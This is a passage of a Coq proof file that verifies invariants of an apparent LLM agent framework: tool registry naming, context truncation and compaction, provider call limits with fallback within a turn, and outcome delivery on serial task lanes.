  induction bs as [|[k' v'] bs IH]; cbn [map_set map fst].
  - rewrite bool_decide_eq_false_2 by (intros H; inversion H). reflexivity.
  - destruct (String.eqb_spec k' k) as [->|Hk]; cbn [map fst].
    + rewrite bool_decide_eq_true_2 by constructor. reflexivity.
    + rewrite IH. destruct (decide (k ∈ map fst bs)) as [Hin|Hin].
      * rewrite !bool_decide_eq_true_2; [reflexivity|now constructor|assumption].
      * rewrite !bool_decide_eq_false_2; [reflexivity| |assumption].
        intros H. inversion H; subst; contradiction.
Qed.

Lemma map_get_None k bs : k ∉ map fst bs -> map_get k bs = None.
Proof.
  induction bs as [|[k' v'] bs IH]; cbn [map_get map fst]; intros H.
  - reflexivity.
  - destruct (String.eqb_spec k' k) as [->|_].
    + exfalso. apply H. constructor.
    + apply IH. intros Hin. apply H. now constructor.
Qed.

Lemma map_get_Some k bs : k ∈ map fst bs -> is_Some (map_get k bs).
Proof.
  induction bs as [|[k' v'] bs IH]; cbn [map_get map fst]; intros H.
  - inversion H.
  - destruct (String.eqb_spec k' k) as [->|Hne]; [eauto|].
    apply IH. inversion H; subst; [contradiction|assumption].
Qed.

(** X1.  Looking a name up after a registration gives the registered tool
    for its own name and what was there before for every other name. *)
Theorem get_after_register t r n :
  get (register t r) n = if String.eqb (tool_name t) n then Some t else get r n.
Proof. unfold get, register. cbn [tools]. apply map_get_set. Qed.

(** X2.  Registering under a name that is bound keeps the order of the
    names; a new name goes last. *)
Theorem listNames_after_register t r :
  listNames (register t r) =
    if bool_decide (tool_name t ∈ listNames r) then listNames r
    else listNames r ++ [tool_name t].
Proof. unfold listNames, register. cbn [tools]. apply map_set_keys. Qed.

Lemma register_NoDup t r : NoDup (listNames r) -> NoDup (listNames (register t r)).
Proof.
  intros H. unfold listNames, register in *. cbn [tools]. rewrite map_set_keys.
  destruct (decide (tool_name t ∈ map fst (tools r))) as [Hin|Hin].
  - now rewrite bool_decide_eq_true_2.
  - rewrite bool_decide_eq_false_2 by assumption.
    apply NoDup_app. repeat split; try assumption.
    + intros x Hx Hx'. apply list_elem_of_singleton in Hx'. now subst.
    + apply NoDup_singleton.
Qed.

Lemma registered_NoDup (ts : list (Tool W J)) r :
  NoDup (listNames r) ->
  NoDup (listNames (fold_left (fun r t => register t r) ts r)).
Proof.
  revert r. induction ts as [|t ts IH]; intros r Hr; cbn [fold_left].
  - exact Hr.
  - apply IH. now apply register_NoDup.
Qed.

(** X3.  However many tools are registered, and with whatever names, no
    name is listed twice, and the names listed are those that [get]
    finds. *)
Theorem registered_names (ts : list (Tool W J)) (n : string) :
  let r := fold_left (fun r t => register t r) ts new_ToolRegistry in
  NoDup (listNames r)
  /\ (n ∈ listNames r <-> is_Some (get r n)).
Proof.
  cbv zeta. split.
  - apply registered_NoDup. constructor.
  - set (r := fold_left _ ts _). unfold listNames, get. split.
    + apply map_get_Some.
    + intros [v Hv]. destruct (decide (n ∈ map fst (tools r))) as [|Hn];
        [assumption|].
      rewrite map_get_None in Hv by assumption. discriminate.
Qed.





End RegistryFacts.

(** ** The context guard, further *)

Section GuardFacts.
Import Ctx.
Variable estimate : string -> Z.

Lemma string_length_append (s1 s2 : string) :
  String.length (s1 +:+ s2) = (String.length s1 + String.length s2)%nat.
Proof.
  induction s1 as [|c s1 IH]; [reflexivity|].
  change (String c s1 +:+ s2) with (String c (s1 +:+ s2)).
  cbn [String.length]. now rewrite IH.
Qed.

Lemma string_length_prefix (n : nat) (s : string) :
  String.length (JS.str_prefix n s) = Nat.min n (String.length s).
Proof.
  unfold JS.str_prefix. revert n.
  induction s as [|c s IH]; intros [|n]; cbn; try reflexivity.
  now rewrite IH.
Qed.

(** X6.  [truncate] leaves a text within the limit as it is; a longer one
    comes out exactly three characters longer than the limit, whatever its
    length: it begins with the first [max] characters of the text. *)
Theorem truncate_length (text : string) (max : nat) :
  String.length (truncate text max) =
    (if (String.length text <=? max)%nat then String.length text else max + 3)%nat
  /\ forall i, (i < Nat.min max (String.length text))%nat ->
               String.get i (truncate text max) = String.get i text.
Proof.
  unfold truncate.
  destruct (Nat.leb_spec (String.length text) max) as [Hle|Hgt].
  - split; [reflexivity|]. intros; reflexivity.
  - split.
    + rewrite string_length_append, string_length_prefix.
      rewrite Nat.min_l by lia. reflexivity.
    + intros i Hi.
      rewrite <- String.append_correct1
        by (rewrite string_length_prefix; lia).
      unfold JS.str_prefix.
      rewrite (String.substring_correct1 text 0 max i) by lia.
      now rewrite Nat.add_0_r.
Qed.

Lemma tool_calls_fold (tcs : list ToolCall) (acc : Z) :
  fold_left (fun total tc => (total + estimate (fn_arguments (tc_function tc)))%Z)
    tcs acc =
  (acc + fold_left
           (fun total tc => (total + estimate (fn_arguments (tc_function tc)))%Z)
           tcs 0)%Z.
Proof.
  revert acc. induction tcs as [|tc tcs IH]; intros acc; cbn [fold_left].
  - lia.
  - rewrite IH, (IH (0 + _)%Z). lia.
Qed.

Lemma estimateTotal_fold (messages : list Message) (acc : Z) :
  fold_left
    (fun total msg =>
       let total := (total + estimate (content msg))%Z in
       match tool_calls msg with
       | Some tcs =>
           fold_left
             (fun total tc => (total + estimate (fn_arguments (tc_function tc)))%Z)
             tcs total
       | None => total
       end)
    messages acc =
  (acc + estimateTotal estimate messages)%Z.
Proof.
  unfold estimateTotal. revert acc.
  induction messages as [|m messages IH]; intros acc; cbn [fold_left].
  - lia.
  - rewrite IH. symmetry. rewrite IH. cbv zeta.
    destruct (tool_calls m) as [tcs|]; [|lia].
    rewrite (tool_calls_fold tcs (0 + _)%Z), (tool_calls_fold tcs (acc + _)%Z).
    lia.
Qed.

Lemma estimateTotal_split (front back : list Message) :
  estimateTotal estimate (front ++ back) =
    (estimateTotal estimate front + estimateTotal estimate back)%Z.
Proof.
  unfold estimateTotal at 1. rewrite fold_left_app.
  fold (estimateTotal estimate front). apply estimateTotal_fold.
Qed.

(** X7.  The estimate of a conversation is the sum of the estimates of its
    parts, whatever the estimator, and of nothing else: the empty
    conversation counts zero. *)
Theorem estimateTotal_app (front back : list Message) :
  estimateTotal estimate (front ++ back) =
    (estimateTotal estimate front + estimateTotal estimate back)%Z
  /\ estimateTotal estimate [] = 0%Z.
Proof.
  split; [apply estimateTotal_split|reflexivity].
Qed.

Lemma tool_calls_fold_nonneg (tcs : list ToolCall) :
  (forall text, 0 <= estimate text)%Z ->
  (0 <= fold_left
          (fun total tc => (total + estimate (fn_arguments (tc_function tc)))%Z)
          tcs 0)%Z.
Proof.
  intros Hpos. induction tcs as [|tc tcs IH]; cbn [fold_left]; [lia|].
  rewrite tool_calls_fold. specialize (Hpos (fn_arguments (tc_function tc))). lia.
Qed.

Lemma estimateTotal_nonneg (messages : list Message) :
  (forall text, 0 <= estimate text)%Z ->
  (0 <= estimateTotal estimate messages)%Z.
Proof.
  intros Hpos. induction messages as [|m messages IH].
  - reflexivity.
  - change (m :: messages) with ([m] ++ messages). rewrite estimateTotal_split.
    assert (0 <= estimateTotal estimate [m])%Z; [|lia].
    unfold estimateTotal. cbn [fold_left]. cbv zeta.
    pose proof (Hpos (content m)).
    destruct (tool_calls m) as [tcs|]; [|lia].
    rewrite tool_calls_fold. pose proof (tool_calls_fold_nonneg tcs Hpos). lia.
Qed.

(** X8.  With an estimator that is never negative, a conversation that
    needs compaction still needs it after more messages are appended. *)
Theorem needsCompaction_after_append (fl : Q -> Q) (g : ContextGuard)
    (messages more : list Message) :
  (forall text, 0 <= estimate text)%Z ->
  needsCompaction estimate fl g messages = true ->
  needsCompaction estimate fl g (messages ++ more) = true.
Proof.
  intros Hpos. unfold needsCompaction. cbv zeta.
  rewrite estimateTotal_split.
  pose proof (estimateTotal_nonneg more Hpos) as Hmore.
  intros H. apply negb_true_iff in H. apply negb_true_iff.
  destruct (Qle_bool (inject_Z (estimateTotal estimate messages + _)) _) eqn:E;
    [|reflexivity].
  apply Qle_bool_iff in E.
  assert (Qle_bool (inject_Z (estimateTotal estimate messages))
            (fl (maxTokens g * threshold g)%Q) = true) as Habs; [|congruence].
  apply Qle_bool_iff. eapply Qle_trans; [|exact E].
  rewrite <- Zle_Qle. lia.
Qed.

(** The four ways through [compact]. *)
Lemma compact_cases (messages : list Message) :
  ((length messages <= 4)%nat /\ compact estimate messages = (messages, None))
  \/ (exists m rest,
        messages = m :: rest /\ role m = system /\ length rest = 4%nat
        /\ compact estimate messages = (messages, None))
  \/ (exists m rest summary notice,
        messages = m :: rest /\ role m = system /\ (4 < length rest)%nat
        /\ compact estimate messages =
             (m :: summary :: drop (length rest - 4) rest, Some notice))
  \/ (exists summary notice,
        head (map role messages) <> Some system /\ (4 < length messages)%nat
        /\ compact estimate messages =
             (summary :: drop (length messages - 4) messages, Some notice)).
Proof.
  destruct (Nat.le_gt_cases (length messages) 4) as [Hle|Hgt].
  { left. split; [assumption|]. unfold compact.
    destruct (Nat.leb_spec (length messages) 4); [reflexivity|lia]. }
  right. unfold compact.
  destruct (Nat.leb_spec (length messages) 4) as [|_]; [lia|].
  destruct messages as [|m rest]; [simpl in Hgt; lia|].
  destruct (decide (role m = system)) as [Hm|Hm]; cbv zeta.
  - rewrite slice_from_1.
    change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
    rewrite slice_all_but_last, slice_from_last by lia.
    rewrite length_take.
    destruct (Nat.eqb_spec (Nat.min (length rest - 4) (length rest)) 0) as [E|E].
    + left. exists m, rest. simpl in Hgt. repeat split; try assumption. lia.
    + right. left. do 4 eexists.
      split; [reflexivity|]. split; [assumption|]. split; [lia|]. reflexivity.
  - right. right.
    change (Z.opp 4%Z) with (- Z.of_nat 4)%Z.
    rewrite slice_all_but_last, slice_from_last by lia.
    rewrite length_take.
    destruct (Nat.eqb_spec
                (Nat.min (length (m :: rest) - 4) (length (m :: rest))) 0) as [E|E];
      [simpl in *; lia|].
    do 2 eexists.
    split; [simpl; congruence|]. split; [assumption|]. reflexivity.
Qed.

(** X9.  [compact] never returns more messages than it was given, never
    more than six, and the last four messages of its result are the last
    four of the conversation it was given. *)
Theorem compact_bounds_and_window (messages : list Message) :
  let result := (compact estimate messages).1 in
  (length result <= length messages)%nat
  /\ (length result <= 6)%nat
  /\ drop (length result - 4) result = drop (length messages - 4) messages.
Proof.
  cbv zeta.
  destruct (compact_cases messages)
    as [[Hle ->]|[(m & rest & -> & Hm & Hlen & ->)
       |[(m & rest & summary & notice & -> & Hm & Hlen & ->)
        |(summary & notice & Hm & Hlen & ->)]]]; cbn [fst].
  - split; [lia|]. split; [lia|]. reflexivity.
  - cbn [length]. split; [lia|]. split; [lia|]. reflexivity.
  - cbn [length]. rewrite length_drop.
    replace (S (S (length rest - (length rest - 4))) - 4)%nat with 2%nat by lia.
    replace (S (length rest) - 4)%nat with (S (length rest - 4)) by lia.
    split; [lia|]. split; [lia|]. reflexivity.
  - cbn [length]. rewrite length_drop.
    replace (S (length messages - (length messages - 4)) - 4)%nat with 1%nat by lia.
    split; [lia|]. split; [lia|]. reflexivity.
Qed.

(** X10.  [compact] returns the conversation as it is, and logs nothing,
    exactly when the conversation has at most four messages, or has five
    of which the first is the system message. *)
Theorem compact_is_silent_iff (messages : list Message) :
  ((compact estimate messages).2 = None <->
   (length messages <= 4)%nat
   \/ (length messages = 5%nat /\ head (map role messages) = Some system))
  /\ ((compact estimate messages).2 = None ->
      (compact estimate messages).1 = messages).
Proof.
  destruct (compact_cases messages)
    as [[Hle ->]|[(m & rest & -> & Hm & Hlen & ->)
       |[(m & rest & summary & notice & -> & Hm & Hlen & ->)
        |(summary & notice & Hm & Hlen & ->)]]]; cbn [fst snd].
  - split; [|reflexivity]. split; auto.
  - split; [|reflexivity]. split; [|reflexivity].
    intros _. right. cbn. rewrite Hlen, Hm. auto.
  - split; [|discriminate]. split; [discriminate|].
    cbn [length]. intros [H|[H _]]; lia.
  - split; [|discriminate]. split; [discriminate|].
    intros [H|[_ H]]; [lia|contradiction].
Qed.

End GuardFacts.

(** ** The turn loop, further *)

Section TurnFacts.
Import Tools Agent.
Context {W J : Type}.
Variable fl : Q -> Q.
Variable JSON_parse : string -> option J.

Local Abbreviation Machine := (Agent.Machine W J).
Local Abbreviation Event := (Agent.Event J).

Implicit Types (s : Machine) (evs : list Event) (conv : list Message).









Lemma compacted_first_is_system conv :
  first_is_system conv -> first_is_system (compacted conv).
Proof.
  intros (m0 & rest0 & -> & Hm0). unfold compacted.
  destruct (compact_cases (fun _ => 0%Z) (m0 :: rest0))
    as [[Hle ->]|[(m & rest & E & Hm & Hlen & ->)
       |[(m & rest & summary & notice & E & Hm & Hlen & ->)
        |(summary & notice & Hm & Hlen & ->)]]]; cbn [fst].
  - now exists m0, rest0.
  - now exists m0, rest0.
  - now eexists _, _.
  - exfalso. apply Hm. cbn. now rewrite Hm0.
Qed.

Lemma replay_first_is_system conv evs :
  first_is_system conv -> first_is_system (replay conv evs).
Proof.
  revert conv. induction evs as [|e evs IH]; intros conv H; [exact H|].
  cbn [replay fold_left]. apply IH.
  destruct e as [who sent defs|appended_message|text|n|called args];
    cbn [replay_event]; try assumption.
  - destruct H as (m & rest & -> & Hm). now exists m, (rest ++ [appended_message]).
  - now apply compacted_first_is_system.
Qed.

Lemma handleMessage_first_is_system input s :
  first_is_system (messages (agent s)) ->
  first_is_system (messages (agent (handleMessage fl JSON_parse input s).2)).
Proof.
  intros H.
  rewrite handleMessage_unfold, handleMessage_turns_unfold. cbn [snd].
  destruct (turn_loop_accounts fl JSON_parse MAX_TURNS 0
              (provider (agent (turn_start input s))) (turn_start input s))
    as (evs & _ & _ & -> & _).
  apply replay_first_is_system.
  unfold turn_start. cbn [committed agent messages].
  assert (first_is_system (messages (agent (inject_skills input s).2)))
    as (m & rest & -> & Hm).
  { unfold inject_skills.
    destruct (Agent.skills (agent s)) as [loader|]; [|exact H].
    destruct (_ && _); [|exact H].
    destruct H as (m & rest & -> & Hm). cbn. now eexists _, _. }
  now exists m, (rest ++ [plain user input]).
Qed.

(** X15.  If the conversation of an agent begins with a system message, as
    the constructor leaves it, it still does after any number of turns:
    neither the skill text, nor a push, nor a compaction removes it. *)
Theorem system_message_stays_first (inputs : list string) s :
  first_is_system (messages (agent s)) ->
  first_is_system
    (messages
       (agent (fold_left (fun s input => (handleMessage fl JSON_parse input s).2)
                 inputs s))).
Proof.
  revert s. induction inputs as [|input inputs IH]; intros s H; [exact H|].
  cbn [fold_left]. apply IH. now apply handleMessage_first_is_system.
Qed.

Lemma callees_app evs1 evs2 : callees (evs1 ++ evs2) = callees evs1 ++ callees evs2.
Proof. apply omap_app. Qed.

Lemma callees_none evs : provider_calls evs = 0%nat -> callees evs = [].
Proof.
  unfold provider_calls. fold (callees evs).
  destruct (callees evs); [reflexivity|discriminate].
Qed.

(** A round calls the active provider once and stays with it, or calls it
    and then the fallback, another object, and goes on with the fallback. *)
Lemma round_callees (p : LLMProvider W) s :
  exists evs,
    trace (round fl JSON_parse p s).2 = trace s ++ evs
    /\ ((callees evs = [oid p] /\ (round fl JSON_parse p s).1.2 = p)
        \/ exists fb,
             fallback (agent s) = Some fb /\ oid p <> oid fb
             /\ callees evs = [oid p; oid fb]
             /\ (round fl JSON_parse p s).1.2 = fb).
Proof.
  rewrite round_unfold. cbv zeta.
  destruct (guard_accounts fl p s) as (pre & Hpre & Cpre).
  destruct (guard_configuration fl p s) as (_ & Hf & _).
  set (s1 := (guard fl p s).2) in *.
  set (defs := getDefinitions (tools (agent s1)) None).
  pose proof (call_chat_accounts p defs s1) as Hchat.
  set (s2 := (call_chat p defs s1).2) in *.
  pose proof (accounts_trans _ _ _ _ _ Hpre Hchat) as H2.
  assert (C2 : callees (pre ++ [EvChat (oid p) (messages (agent s1)) defs]) = [oid p])
    by (rewrite callees_app, (callees_none pre Cpre); reflexivity).
  destruct (call_chat p defs s1).1 as [response|e].
  - destruct (respond_accounts JSON_parse response s2) as (evs & H & C).
    pose proof (accounts_trans _ _ _ _ _ H2 H) as (Ht & _).
    eexists. split; [exact Ht|]. left. split; [|reflexivity].
    rewrite callees_app, C2, (callees_none evs C). reflexivity.
  - rewrite Hf. destruct (fallback (agent s)) as [fb|] eqn:Hfb.
    + destruct (Nat.eqb_spec (oid p) (oid fb)) as [Heq|Hne]; cbn [negb].
      * destruct H2 as (Ht & _). eexists. split; [exact Ht|]. left. auto.
      * pose proof (onOutput_accounts (fallback_notice p fb) s2) as Hout.
        set (s3 := (onOutput (fallback_notice p fb) s2).2) in *.
        pose proof (call_chat_accounts fb defs s3) as Hchat2.
        set (s4 := (call_chat fb defs s3).2) in *.
        pose proof (accounts_trans _ _ _ _ _ H2
                      (accounts_trans _ _ _ _ _ Hout Hchat2)) as H4.
        assert (C4 : callees
                       ((pre ++ [EvChat (oid p) (messages (agent s1)) defs]) ++
                        [EvOutput (fallback_notice p fb)] ++
                        [EvChat (oid fb) (messages (agent s3)) defs])
                     = [oid p; oid fb])
          by (rewrite callees_app, C2; reflexivity).
        destruct (call_chat fb defs s3).1 as [response|e2].
        -- destruct (respond_accounts JSON_parse response s4) as (evs & H & C).
           pose proof (accounts_trans _ _ _ _ _ H4 H) as (Ht & _).
           eexists. split; [exact Ht|]. right. exists fb.
           repeat split; try assumption.
           rewrite callees_app, C4, (callees_none evs C). reflexivity.
        -- destruct H4 as (Ht & _). eexists. split; [exact Ht|].
           right. exists fb. repeat split; assumption.
    + destruct H2 as (Ht & _). eexists. split; [exact Ht|]. left. auto.
Qed.

Lemma turn_loop_callees remaining : forall turns (p : LLMProvider W) s,
  exists evs a b,
    trace (turn_loop fl JSON_parse remaining turns p s).2 = trace s ++ evs
    /\ callees evs = replicate a (oid p) ++ replicate b (fallback_id s)
    /\ (a <= remaining)%nat /\ (a + b <= remaining + 1)%nat
    /\ (fallback (agent s) = None -> b = 0%nat)
    /\ (oid p = fallback_id s -> b = 0%nat).
Proof.
  induction remaining as [|remaining IH]; intros turns p s.
  - exists [], 0%nat, 0%nat. cbn. rewrite app_nil_r. repeat split; auto.
  - rewrite turn_loop_unfold.
    destruct (round_callees p s) as (evs1 & Ht1 & Hcase).
    destruct (round_configuration fl JSON_parse p s) as (_ & Hf & _).
    assert (Hid : fallback_id (round fl JSON_parse p s).2 = fallback_id s)
      by (unfold fallback_id; now rewrite Hf).
    destruct (IH (S turns) (round fl JSON_parse p s).1.2 (round fl JSON_parse p s).2)
      as (evs2 & a2 & b2 & Ht2 & Hc2 & Ha2 & Hab2 & Hn2 & He2).
    rewrite Hid, Hf in *.
    destruct Hcase as [[Hc1 Hact]|(fb & Hfb & Hne & Hc1 & Hact)]; rewrite Hact in *.
    + destruct (round fl JSON_parse p s).1.1.
      * exists evs1, 1%nat, 0%nat. cbn [snd]. rewrite Hc1. cbn.
        repeat split; auto; lia.
      * exists (evs1 ++ evs2), (S a2), b2.
        rewrite Ht2, Ht1, callees_app, Hc1, Hc2, app_assoc.
        repeat split; auto; lia.
      * exists evs1, 1%nat, 0%nat. cbn [snd]. rewrite Hc1. cbn.
        repeat split; auto; lia.
    + assert (Hfid : fallback_id s = oid fb)
        by (unfold fallback_id; now rewrite Hfb).
      destruct (round fl JSON_parse p s).1.1.
      * exists evs1, 1%nat, 1%nat. cbn [snd]. rewrite Hc1, Hfid. cbn.
        repeat split; auto; try lia; congruence.
      * rewrite Hfid in *. specialize (He2 eq_refl). subst b2.
        exists (evs1 ++ evs2), 1%nat, (S a2).
        rewrite Ht2, Ht1, callees_app, Hc1, Hc2, app_assoc, app_nil_r.
        repeat split; auto; try lia; congruence.
      * exists evs1, 1%nat, 1%nat. cbn [snd]. rewrite Hc1, Hfid. cbn.
        repeat split; auto; try lia; congruence.
Qed.

(** X16.  In one turn the configured provider is called at most 15 times
    and all the providers together at most 16 times; once the fallback was
    called, the configured provider is not called again in that turn; and
    without a fallback nothing but the configured provider is called. *)
Theorem provider_calls_of_a_turn input s :
  exists evs a b,
    trace (handleMessage fl JSON_parse input s).2 = trace s ++ evs
    /\ callees evs =
         replicate a (oid (provider (agent s))) ++ replicate b (fallback_id s)
    /\ (a <= 15)%nat /\ (a + b <= 16)%nat
    /\ (fallback (agent s) = None -> b = 0%nat).
Proof.
  rewrite handleMessage_unfold, handleMessage_turns_unfold. cbn [snd].
  destruct (turn_start_configuration input s) as (Hp & Hf & _).
  destruct (turn_loop_callees MAX_TURNS 0 (provider (agent (turn_start input s)))
              (turn_start input s))
    as (evs & a & b & Ht & Hc & Ha & Hab & Hn & _).
  assert (Hid : fallback_id (turn_start input s) = fallback_id s)
    by (unfold fallback_id; now rewrite Hf).
  rewrite Hp, Hid, Hf in *.
  exists ([EvAppend (plain user input)] ++ evs), a, b.
  rewrite Ht. unfold turn_start at 1. cbn [committed trace].
  destruct (inject_skills_frame input s) as (-> & _).
  rewrite <- app_assoc, callees_app, Hc.
  repeat split; auto.
Qed.

End TurnFacts.

(** ** The serial lane, further *)

Section LaneOutcomes.
Import Lanes.
Context {T : Type}.

Implicit Types (l : Lane T) (m : LaneManager T) (tasks : list T)
  (log : list (Tagged T)) (steps : list (Step T)) (effs : list (Effect T)).

Lemma handed_app effs1 effs2 : handed (effs1 ++ effs2) = handed effs1 ++ handed effs2.
Proof. apply omap_app. Qed.

Lemma enqueue_effects t l :
  (enqueue T t l).2 = [] \/ exists t', (enqueue T t l).2 = [Started t'].
Proof.
  unfold enqueue, process. cbn [running queue awaiting].
  destruct (running l); [now left|].
  unfold process_loop. cbn [queue].
  destruct (queue l ++ [t]) as [|item rest]; [now left|right; eauto].
Qed.

Lemma settle_effects o l l' effs :
  settle T o l = Some (l', effs) ->
  exists item rest,
    awaiting l = Some item /\ effs = Finished item o :: rest
    /\ (rest = [] \/ exists t', rest = [Started t']).
Proof.
  unfold settle. destruct (awaiting l) as [item|]; [|discriminate].
  unfold process_loop. cbn [queue].
  destruct (queue l) as [|next rest]; intros [= <- <-]; eauto 8.
Qed.

(** The outcomes handed out on a lane are those of its settlements. *)
Lemma exec_outcomes key steps : forall done m log m' log',
  map snd (handed (on_lane key log)) = outcomes key done ->
  exec steps m log = Some (m', log') ->
  map snd (handed (on_lane key log')) = outcomes key (done ++ steps).
Proof.
  induction steps as [|st steps IH]; intros done m log m' log' Hinv He.
  - injection He as <- <-. now rewrite app_nil_r.
  - cbn [exec] in He.
    destruct (step st m) as [[m1 effs]|] eqn:Es; [|discriminate].
    replace (done ++ st :: steps) with ((done ++ [st]) ++ steps)
      by now rewrite <- app_assoc.
    eapply IH; [|exact He].
    rewrite on_lane_app, handed_app, map_app, Hinv.
    unfold outcomes at 2. rewrite omap_app. fold (outcomes key done). f_equal.
    destruct st as [k t|k o]; cbn [step] in Es.
    + unfold runParallel in Es.
      destruct (getLane T k m) as [l m2].
      pose proof (enqueue_effects t l) as Heff.
      destruct (enqueue T t l) as [l1 effs1]. cbn [snd] in Heff.
      injection Es as <- <-. cbn [omap list_omap].
      destruct (decide (k = key)) as [->|Hne].
      * rewrite on_lane_same. destruct Heff as [->|[t' ->]]; reflexivity.
      * now rewrite on_lane_other.
    + destruct (lanes m !! k) as [l|]; [|discriminate].
      destruct (settle T o l) as [[l1 effs1]|] eqn:Est; [|discriminate].
      injection Es as <- <-. cbn [omap list_omap].
      destruct (settle_effects _ _ _ _ Est) as (item & rest & _ & -> & Hrest).
      destruct (decide (k = key)) as [->|Hne].
      * rewrite on_lane_same. destruct Hrest as [->|[t' ->]]; reflexivity.
      * now rewrite on_lane_other.
Qed.

Lemma ended_serial tasks : ended (serial tasks) = tasks.
Proof.
  induction tasks as [|t tasks IH]; [reflexivity|].
  cbn [serial flat_map app]. fold (serial tasks).
  unfold ended in *. cbn. now rewrite IH.
Qed.

Lemma handed_tasks effs : map fst (handed effs) = ended (map phase effs).
Proof.
  induction effs as [|[t|t o] effs IH]; [reflexivity| |].
  - exact IH.
  - unfold handed, ended in *. cbn. now rewrite IH.
Qed.

Lemma zip_fst_snd {A B} (ps : list (A * B)) : zip (map fst ps) (map snd ps) = ps.
Proof. induction ps as [|[a b] ps IH]; [reflexivity|]. cbn. now rewrite IH. Qed.

(** X17.  Every settlement hands its outcome, success or failure, to the
    waiter of the task that was running and to no other: in the order of
    enqueuing, the [i]-th task of a lane gets the outcome of the lane's
    [i]-th settlement. *)
Theorem outcomes_go_to_their_waiters steps m log key :
  exec steps new_LaneManager [] = Some (m, log) ->
  handed (on_lane key log) = zip (enqueued key steps) (outcomes key steps).
Proof.
  intros He.
  pose proof (exec_outcomes key steps [] new_LaneManager [] m log eq_refl He)
    as Hout.
  cbn [app] in Hout.
  pose proof (exec_invariant steps [] _ _ _ _ manager_invariant_start He key)
    as (finished & Hn & H).
  cbn [app] in H, Hn.
  assert (Hfin : map fst (handed (on_lane key log)) = finished
                 /\ exists rest, enqueued key steps = finished ++ rest).
  { rewrite handed_tasks.
    destruct (awaiting (lane_at key m)) as [t|].
    - destruct H as (_ & -> & ->). split; [|eauto].
      unfold ended. rewrite omap_app. fold (ended (serial finished)).
      rewrite ended_serial. cbn. now rewrite app_nil_r.
    - destruct H as (_ & _ & -> & ->). split; [apply ended_serial|].
      exists []. now rewrite app_nil_r. }
  destruct Hfin as [Hfin [rest Hrest]].
  rewrite <- (zip_fst_snd (handed (on_lane key log))), Hfin, Hout, Hrest.
  assert (Hlen : length finished = length (outcomes key steps))
    by (rewrite Hn; reflexivity).
  clear -Hlen. revert Hlen. generalize (outcomes key steps).
  induction finished as [|t finished IH]; intros [|o outs] Hlen;
    cbn in *; try discriminate.
  - now destruct rest.
  - f_equal. apply IH. lia.
Qed.

(** X18.  A lane is running exactly while a task enqueued on it has not
    settled, and what it holds pending are the enqueued tasks that have
    not begun: all but the settled ones and the running one. *)
Theorem running_and_pending steps m log key :
  exec steps new_LaneManager [] = Some (m, log) ->
  let l := lane_at key m in
  isRunning T l = (settled key steps <? length (enqueued key steps))%nat
  /\ pending T l =
       (length (enqueued key steps) - settled key steps
        - (if isRunning T l then 1 else 0))%nat.
Proof.
  intros He. cbv zeta.
  pose proof (exec_invariant steps [] _ _ _ _ manager_invariant_start He key)
    as (finished & Hn & H).
  cbn [app] in H, Hn. unfold isRunning, pending.
  destruct (awaiting (lane_at key m)) as [t|].
  - destruct H as (-> & -> & _). rewrite length_app. cbn [length].
    destruct (Nat.ltb_spec (settled key steps)
                (length finished + S (length (queue (lane_at key m)))));
      split; try reflexivity; lia.
  - destruct H as (-> & -> & -> & _).
    destruct (Nat.ltb_spec (settled key steps) (length finished));
      split; try reflexivity; cbn; lia.
Qed.

Lemma step_on_the_lane key st m1 m2 m1' (out : list (Tagged T)) :
  step_key st = key ->
  lane_at key m1 = lane_at key m2 ->
  step st m1 = Some (m1', out) ->
  exists m2', step st m2 = Some (m2', out) /\ lane_at key m1' = lane_at key m2'.
Proof.
  intros Hk Hl Hs. destruct st as [k t|k o]; cbn [step_key] in Hk; subst k;
    cbn [step] in *.
  - unfold runParallel in *.
    pose proof (getLane_lane key m1) as H1. pose proof (getLane_lane key m2) as H2.
    destruct (getLane T key m1) as [l1 m1a]. destruct (getLane T key m2) as [l2 m2a].
    cbn [fst] in H1, H2. rewrite H1, Hl in Hs. rewrite H2.
    destruct (enqueue T t (lane_at key m2)) as [l' effs'].
    injection Hs as <- <-. eexists. split; [reflexivity|].
    unfold lane_at. cbn [lanes]. now rewrite !lookup_insert_eq.
  - destruct (lanes m1 !! key) as [l1|] eqn:E1; [|discriminate].
    destruct (settle T o l1) as [[l1' effs1]|] eqn:Est; [|discriminate].
    injection Hs as <- <-.
    unfold lane_at in Hl. rewrite E1 in Hl. cbn [default] in Hl.
    destruct (lanes m2 !! key) as [l2|] eqn:E2; cbn [default id] in Hl.
    + subst l2. rewrite Est. eexists. split; [reflexivity|].
      unfold lane_at. cbn [lanes]. now rewrite !lookup_insert_eq.
    + subst l1. discriminate.
Qed.

Lemma step_on_another_lane key st m m' (out : list (Tagged T)) :
  step_key st <> key ->
  step st m = Some (m', out) ->
  lane_at key m' = lane_at key m /\ on_lane key out = [].
Proof.
  intros Hk Hs. destruct st as [k t|k o]; cbn [step_key] in Hk; cbn [step] in Hs.
  - unfold runParallel in Hs.
    pose proof (getLane_others k key m Hk) as Ho.
    destruct (getLane T k m) as [l m1]. cbn [snd] in Ho.
    destruct (enqueue T t l) as [l' effs'].
    injection Hs as <- <-. split; [|now apply on_lane_other].
    unfold lane_at at 1. cbn [lanes]. now rewrite lookup_insert_ne.
  - destruct (lanes m !! k) as [l|]; [|discriminate].
    destruct (settle T o l) as [[l' effs']|]; [|discriminate].
    injection Hs as <- <-. split; [|now apply on_lane_other].
    unfold lane_at. cbn [lanes]. now rewrite lookup_insert_ne.
Qed.

Lemma exec_without_the_others key steps : forall m1 log1 m2 log2 m log,
  lane_at key m1 = lane_at key m2 ->
  on_lane key log1 = on_lane key log2 ->
  exec steps m1 log1 = Some (m, log) ->
  exists m' log',
    exec (List.filter (on_key key) steps) m2 log2 = Some (m', log')
    /\ lane_at key m' = lane_at key m
    /\ on_lane key log' = on_lane key log.
Proof.
  induction steps as [|st steps IH]; intros m1 log1 m2 log2 m log Hl Hlog He.
  - injection He as <- <-. exists m2, log2. cbn. auto.
  - cbn [exec] in He.
    destruct (step st m1) as [[m1' out]|] eqn:Es; [|discriminate].
    cbn [List.filter]. unfold on_key at 1.
    destruct (decide (step_key st = key)) as [Hk|Hk].
    + rewrite bool_decide_eq_true_2 by assumption. cbn [exec].
      destruct (step_on_the_lane key st m1 m2 m1' out Hk Hl Es) as (m2' & -> & Hl').
      eapply IH; [exact Hl'| |exact He].
      now rewrite !on_lane_app, Hlog.
    + rewrite bool_decide_eq_false_2 by assumption.
      destruct (step_on_another_lane key st m1 m1' out Hk Es) as [Hl' Heff].
      eapply IH; [|   |exact He].
      * now rewrite Hl'.
      * now rewrite on_lane_app, Heff, app_nil_r.
